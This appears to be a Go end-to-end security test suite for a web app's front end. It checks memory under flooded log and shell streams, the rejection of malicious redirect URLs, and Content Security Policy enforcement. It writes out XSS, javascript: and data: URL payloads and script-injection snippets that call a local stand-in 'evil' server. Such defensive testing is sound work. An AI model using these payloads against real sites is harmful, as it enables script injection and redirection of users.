package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/browser"
	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/chromedp"
	"github.com/gorilla/websocket"

	"berth/shared/attacktest"
	"berth/shared/wire"
)

// hostile stands before a demo's gateway and answers some of what a page asks as it likes. All else is the gateway's own.
type hostile struct {
	*httptest.Server
	real *fakeNode

	mu      sync.Mutex
	answers map[string]http.HandlerFunc // by the end of the path
	sent    atomic.Int64                // bytes
}

func newHostile(t *testing.T) *hostile {
	h := &hostile{real: newFakeNode(t), answers: map[string]http.HandlerFunc{}}
	h.Server = httptest.NewServer(h)
	t.Cleanup(func() { h.CloseClientConnections(); h.Close() })
	return h
}

func (h *hostile) script() string {
	return fmt.Sprintf(`(() => {
		const mine = %q, real = window.fetch, Socket = window.WebSocket;
		window.fetch = (input, init = {}) => {
			const m = /^(https?:\/\/[^\/]+)(\/v1\/.*)$/.exec(String(input));
			if (!m) return real(input, init);
			return real(mine + m[2], {...init, headers: {...init.headers, "X-Real": m[1]}});
		};
		window.WebSocket = function (url, protocols) {
			return new Socket(url.replace(/^ws:\/\/[^\/]+/, mine.replace("http", "ws")), protocols);
		};
	})()`, h.URL)
}

// answer has what ends so be answered by f; nil: by the gateway.
func (h *hostile) answer(end string, f http.HandlerFunc) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.answers[end] = f
}

func (h *hostile) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	h.mu.Lock()
	var f http.HandlerFunc
	for end, g := range h.answers {
		if g != nil && strings.HasSuffix(r.URL.Path, end) && r.Method != http.MethodOptions {
			f = g
		}
	}
	h.mu.Unlock()
	w.Header().Set("Access-Control-Allow-Origin", "*")
	w.Header().Set("Access-Control-Allow-Headers", "*, Authorization")
	w.Header().Set("Access-Control-Allow-Methods", "*")
	switch {
	case r.Method == http.MethodOptions:
	case f != nil:
		f(w, r)
	default:
		h.real.ServeHTTP(w, r)
	}
}

// pour writes a piece again and again, this many bytes in all.
func (h *hostile) pour(status int, kind, head, piece string, most int) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", kind)
		w.WriteHeader(status)
		io.WriteString(w, head)
		for n := 0; n < most; n += len(piece) {
			if _, err := io.WriteString(w, piece); err != nil {
				return
			}
			h.sent.Add(int64(len(piece)))
		}
		if strings.Contains(kind, "event") {
			w.(http.Flusher).Flush()
			<-r.Context().Done()
		}
	}
}

// renderers is the memory in use of the largest of this test's browser's renderers, in MiB.
func renderers(t *testing.T) int {
	t.Helper()
	parents, sizes := map[int]int{}, map[int]int{}
	dirs, err := filepath.Glob("/proc/[0-9]*")
	if err != nil {
		t.Fatal(err)
	}
	for _, dir := range dirs {
		pid, err := strconv.Atoi(filepath.Base(dir))
		if err != nil {
			continue
		}
		status, err := os.ReadFile(dir + "/status")
		if err != nil {
			continue // it has ended
		}
		line, _ := os.ReadFile(dir + "/cmdline")
		for l := range strings.Lines(string(status)) {
			key, value, _ := strings.Cut(l, ":")
			n, _ := strconv.Atoi(strings.TrimSuffix(strings.TrimSpace(value), " kB"))
			switch {
			case key == "PPid":
				parents[pid] = n
			case key == "VmRSS" && strings.Contains(string(line), "--type=renderer"):
				sizes[pid] = n >> 10
			}
		}
	}
	most := 0
	for pid, size := range sizes {
		for up := pid; up > 1; up = parents[up] {
			if up == os.Getpid() {
				most = max(most, size)
			}
		}
	}
	return most
}

// TestAttackFlood has a gateway and a service pour out all they can. The renderer's memory stays within a bound, and the
// page goes on.
func TestAttackFlood(t *testing.T) {
	thorough(t)
	attacktest.Whole(t)
	a := attacktest.Begin(t, "a hostile gateway or service fills the page")
	d := startDemo(t, t.TempDir())
	h := newHostile(t)
	p := window{width: 1280, height: 900, stays: 15 * time.Minute}.open(t)
	p.before(h.script())
	rentAndDeploy(p, d, "hello")
	order := strings.TrimPrefix(eval[string](p, "location.pathname"), "/orders/")
	p.do(chromedp.Func(func(ctx context.Context, target *chromedp.Target) error {
		_, err := cdp.Call(ctx, target, browser.SetDownloadBehavior, browser.SetDownloadBehaviorParams{Behavior: "allow", DownloadPath: t.TempDir()})
		return err
	}))
	const (
		much  = 400 << 20
		bound = 250 // MiB more than at rest
		each  = 15 * time.Second
	)
	line := func(text string) string {
		b, err := json.Marshal(wire.LogBatch{Lines: []wire.LogLine{{At: time.Now(), Text: text}}})
		if err != nil {
			t.Fatal(err)
		}
		return "event: log\ndata: " + string(b) + "\n\n"
	}
	batch := wire.LogBatch{}
	for range 400 {
		batch.Lines = append(batch.Lines, wire.LogLine{At: time.Now(), Text: strings.Repeat("\x1b[31mx\x1b[32m\u202e", 40)})
	}
	many, err := json.Marshal(batch)
	if err != nil {
		t.Fatal(err)
	}
	const events, text = "text/event-stream", "application/json"
	filled := strings.Repeat("x", 64<<10)
	for _, c := range []struct {
		name, tab, end string
		click          string // what is clicked on then
		f              http.HandlerFunc
	}{
		{"long log lines", "logs", "/logs/events", "", h.pour(200, events, "", line(strings.Repeat("long ", 3000)), much)},
		{"many log lines in all colours", "logs", "/logs/events", "", h.pour(200, events, "", "event: log\ndata: "+string(many)+"\n\n", much)},
		{"one log line without end", "logs", "/logs/events", "", h.pour(200, events, "event: log\ndata: ", filled, much)},
		{"one event of lines without end", "logs", "/logs/events", "", h.pour(200, events, "event: log\n", "data: "+filled[:1000]+"\n", much)},
		{"a comment without end", "logs", "/logs/events", "", h.pour(200, events, ": ", filled, much)},
		{"comments without end", "logs", "/logs/events", "", h.pour(200, events, "", strings.Repeat(":\n", 30<<10), much)},
		{"a refusal without end", "logs", "/logs/events", "", h.pour(404, text, `{"code":"not-found","title":"`, filled, much)},
		{"a log to be saved without end", "logs", "/logs", "logs-download", h.pour(200, "text/plain", "", filled, much)},
		{"use without end", "activity", "/use", "", h.pour(200, text, `{"samples":[`, strings.Repeat("{},", 20<<10), much)},
		{"happenings without end", "activity", "/orders/" + order + "/events", "", h.pour(200, text, `{"events":[{"text":"`, filled, much)},
		{"a deployment of many services", "overview", "/deployment/events", "", h.pour(200, events, "", "event: deployment\ndata: {\"services\":["+strings.Repeat("{},", 200<<10)+"{}]}\n\n", much)},
		{"a deployment without end", "overview", "/deployment", "", h.pour(200, text, `{"services":[`, strings.Repeat(`{"name":"web","text":"x"},`, 3000), much)},
		{"a shell that writes without end", "shell", "/shell", "shell-open", h.shout(strings.Repeat("all work and no play\r\n", 3000), much)},
		{"a shell that piles up marks", "shell", "/shell", "shell-open", h.shout("a"+strings.Repeat("\x1b[m\u0301\u0302", 5000), much/4)},
		{"a shell's one long message", "shell", "/shell", "shell-open", h.shout(strings.Repeat("x", 8<<20), 32<<20)},
	} {
		h.answer(c.end, c.f)
		p.open(d.app + "/orders/" + order + "?tab=" + c.tab)
		p.see("order-state")
		rest, most, began := renderers(t), 0, time.Now()
		h.sent.Store(0)
		if c.click != "" {
			p.click(c.click)
		}
		look := time.NewTicker(100 * time.Millisecond)
		for now := range look.C {
			most = max(most, renderers(t))
			if now.Sub(began) > each {
				break
			}
		}
		look.Stop()
		// The page still hears of a click.
		p.click("tab-overview")
		p.see("order-node")
		a.Tried(most > rest+bound, "%s: %d MiB, %d at rest", c.name, most, rest)
		a.Note("%s: +%d MiB of %d MiB sent", c.name, max(most-rest, 0), h.sent.Load()>>20)
		h.answer(c.end, nil)
		h.CloseClientConnections()
	}
}

// shout is a shell that writes a piece again and again, this many bytes in all.
func (h *hostile) shout(piece string, most int) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		up := websocket.Upgrader{Subprotocols: []string{wire.ShellProtocol}, CheckOrigin: func(*http.Request) bool { return true }}
		conn, err := up.Upgrade(w, r, nil)
		if err != nil {
			return
		}
		defer conn.Close()
		for n := 0; n < most; n += len(piece) {
			if conn.WriteMessage(websocket.BinaryMessage, []byte(piece)) != nil {
				return
			}
			h.sent.Add(int64(len(piece)))
		}
		for {
			if _, _, err := conn.ReadMessage(); err != nil {
				return
			}
		}
	}
}

// TestAttackTicket has a gateway answer the wish to open a service with addresses that are not its own.
func TestAttackTicket(t *testing.T) {
	attacktest.Whole(t)
	a := attacktest.Begin(t, "a gateway's ticket leads elsewhere")
	d := startDemo(t, t.TempDir())
	h := newHostile(t)
	var caught atomic.Int64
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { caught.Add(1); io.WriteString(w, "caught") }))
	t.Cleanup(evil.Close)
	p := window{width: 390, height: 844}.open(t)
	p.before(h.script())
	rentAndDeploy(p, d, "hello")
	own := strings.TrimSpace(p.text("service-url"))
	port := evil.URL[strings.LastIndex(evil.URL, ":"):]
	for _, to := range []string{
		"javascript:fetch('" + evil.URL + "')", "java\tscript:fetch('" + evil.URL + "')", "\x01javascript:fetch('" + evil.URL + "')", "data:text/html,<script>fetch('" + evil.URL + "')</script>",
		evil.URL, evil.URL + "/" + own, "http://localhost" + port, "//localhost" + port, "/\\localhost" + port, "\\\\localhost" + port, own + "@localhost" + port, strings.Replace(own, "://", "://x@", 1), "/orders", "",
		"http://evil.localhost" + port, "https://" + strings.TrimPrefix(own, "http://"), "blob:" + own, strings.ToUpper(own), strings.Replace(own, "localhost", "localhost.", 1), "view-source:" + own, "ftp://localhost", "about:blank#x",
	} {
		h.answer("/tickets", func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			json.NewEncoder(w).Encode(wire.Ticket{URL: to, ExpiresAt: time.Now().Add(time.Minute)})
		})
		at := eval[string](p, "location.href")
		p.click("open-service")
		p.see("trouble")
		p.front()
		a.Tried(caught.Load() > 0 || eval[string](p, "location.href") != at, "%q: %d requests reached another server; the page is at %s", to, caught.Load(), eval[string](p, "location.href"))
		links := eval[string](p, `[...document.querySelectorAll("main a")].map(e => e.href).filter(h => !h.startsWith(location.origin)).join(" ")`)
		a.Tried(links != "", "%q: links %s", to, links)
	}
	// The right one opens as ever.
	h.answer("/tickets", nil)
	opened := p.popup(func() { p.click("open-service") })
	opened.until("the service's page", `document.readyState === "complete" && location.origin === "`+own+`"`)
}

// TestAttackPolicy serves the site by a web server that sends no headers of its own: the pages' own policy holds, and the
// app works under it.
func TestAttackPolicy(t *testing.T) {
	thorough(t)
	attacktest.Whole(t)
	a := attacktest.Begin(t, "a site that any web server serves runs what is not its own")
	d := startDemo(t, t.TempDir())
	site := d.args[3]
	var caught atomic.Int64
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		caught.Add(1)
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Content-Type", "text/javascript")
		io.WriteString(w, "window.ran = true")
	}))
	t.Cleanup(evil.Close)
	app, err := url.Parse(d.app)
	if err != nil {
		t.Fatal(err)
	}
	api := &httputil.ReverseProxy{
		Rewrite: func(r *httputil.ProxyRequest) { r.SetURL(app) },
		ModifyResponse: func(res *http.Response) error {
			for name := range res.Header {
				if name != "Content-Type" && name != "Content-Length" {
					res.Header.Del(name)
				}
			}
			return nil
		},
	}
	plain := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasPrefix(r.URL.Path, "/api/") {
			api.ServeHTTP(w, r)
			return
		}
		name := filepath.Join(site, filepath.FromSlash(path.Clean(r.URL.Path)))
		if r.URL.Path == "/" {
			name = filepath.Join(site, "index")
		}
		if filepath.Ext(name) == "" {
			name += ".html"
		}
		f, err := os.Open(name)
		if err != nil {
			http.NotFound(w, r)
			return
		}
		defer f.Close()
		http.ServeContent(w, r, name, time.Time{}, f)
	}))
	t.Cleanup(plain.Close)
	home := "http://localhost" + plain.URL[strings.LastIndex(plain.URL, ":"):]
	p := window{width: 390, height: 844}.open(t)
	for _, at := range []string{"/", "/explore", "/rent", "/orders", "/more", "/404"} {
		p.open(home + at)
		p.until("the app runs on "+at, `document.querySelector("main h1") && document.querySelector("#app-wasm-loader")?.checkVisibility() !== true`)
		// By a name that is no host of this machine, so that the demo's exception does not let it through.
		other := strings.Replace(evil.URL, "127.0.0.1", "evil.example", 1)
		for _, try := range []struct{ what, script string }{
			{"an inline script", `const s = document.createElement("script"); s.textContent = "window.ran = true"; document.head.append(s)`},
			{"a foreign script", `const s = document.createElement("script"); s.src = "` + evil.URL + `/x.js"; document.head.append(s)`},
			{"a script in a URL", `const s = document.createElement("script"); s.src = "data:text/javascript,window.ran=true"; document.head.append(s)`},
			{"a handler", `const i = document.createElement("img"); i.setAttribute("onerror", "window.ran = true"); i.src = "/nothing"; document.body.append(i)`},
			{"a link", `const l = document.createElement("a"); l.href = "javascript:window.ran = true"; document.body.append(l); l.click()`},
			{"a frame", `const f = document.createElement("iframe"); f.src = "` + evil.URL + `"; document.body.append(f)`},
			{"a picture", `new Image().src = "` + evil.URL + `/x.png"`},
			{"a base", `const b = document.createElement("base"); b.href = "` + evil.URL + `/"; document.head.append(b); new Image().src = "relative.png"`},
			{"a form", `const f = document.createElement("form"); f.action = "` + evil.URL + `"; document.body.append(f); f.submit()`},
			{"a plugin", `const o = document.createElement("object"); o.data = "` + evil.URL + `"; document.body.append(o)`},
			{"a request without TLS", `fetch("` + other + `").catch(() => {})`},
			{"a socket without TLS", `try { new WebSocket("` + strings.Replace(other, "http", "ws", 1) + `") } catch {}`},
			{"a style sheet", `const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "` + evil.URL + `/x.css"; document.head.append(l)`},
			{"a worker", `try { new Worker("data:text/javascript,fetch('` + evil.URL + `')") } catch {}`},
		} {
			said := eval[string](p, `(async () => {
				window.ran = false;
				let said = "";
				const hear = (e) => { said += e.effectiveDirective + " "; };
				document.addEventListener("securitypolicyviolation", hear);
				`+try.script+`;
				for (let i = 0; i < 40 && !said && !window.ran; i++) await new Promise(ok => setTimeout(ok, 50));
				document.removeEventListener("securitypolicyviolation", hear);
				return said;
			})()`)
			// The app itself takes clicks on links.
			silent := said == "" && try.what != "a link"
			a.Tried(eval[bool](p, "window.ran") || caught.Load() > 0 || silent, "%s: %s: the policy said %q, %d requests went out", at, try.what, said, caught.Load())
		}
	}
	p.open(home + "/explore")
	p.until("three nodes", count("node-card", 3))
	p.until("the service worker is there", `navigator.serviceWorker.ready.then(r => !!r.active)`)
	p.open(home + "/explore")
	p.until("three nodes again", count("node-card", 3))
}
